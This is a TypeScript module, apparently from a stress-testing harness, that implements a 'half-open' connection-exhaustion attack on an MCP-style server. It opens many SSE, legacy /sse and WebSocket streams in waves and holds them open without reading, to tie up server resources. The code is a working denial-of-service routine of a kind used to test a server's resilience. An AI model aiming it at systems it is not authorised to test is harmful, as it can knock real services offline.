// Streams that are open on both sides, of every kind. Whoever runs this stops the process, which then neither reads nor
// closes, and later kills it.

import type { Socket } from 'node:net';
import { type Attack, createTally, inWaves, type Target } from '../attack.ts';
import { exchange, INITIALIZE, open, openWebSocket, requestText } from '../raw-client.ts';

type Opener = (target: Target) => Promise<Socket | null>;

const started = (socket: Socket, text: string): Promise<Socket | null> =>
  new Promise((resolve) => {
    socket.once('data', (head: Buffer) => {
      const isOpen = head.toString('latin1', 9, 12) === '200';
      if (!isOpen) socket.destroy();
      resolve(isOpen ? socket : null);
    });
    socket.once('close', () => resolve(null));
    socket.write(text);
  });

const standalone: Opener = async ({ port, key }) => {
  const socket = await open(port);
  if (socket === null) return null;
  const text = requestText({
    key,
    body: INITIALIZE,
    headers: ['Accept: application/json, text/event-stream'],
  });
  const answer = await exchange(socket, text);
  const session = /^mcp-session-id: (\S+)/im.exec(answer?.text ?? '')?.[1];
  const headers = ['Accept: text/event-stream', `Mcp-Session-Id: ${session}`];
  return started(socket, requestText({ method: 'GET', key, headers }));
};

const legacy: Opener = async ({ port, key }) => {
  const socket = await open(port);
  const headers = ['Accept: text/event-stream'];
  return socket && started(socket, requestText({ method: 'GET', path: '/sse', key, headers }));
};

const webSocket: Opener = ({ port, key }) => openWebSocket(port, key);

export const halfOpen: Attack = async (target) => {
  const tally = createTally();
  const sockets: Socket[] = [];
  await inWaves(target.count, 32, async (at) => {
    const socket = await [standalone, legacy, webSocket][at % 3]!(target);
    tally.add(socket === null ? 'refused' : 'held');
    socket?.on('close', () => tally.add('closed'));
    if (socket) sockets.push(socket);
  });
  return { tally: tally.read, release: () => sockets.forEach((socket) => void socket.destroy()) };
};
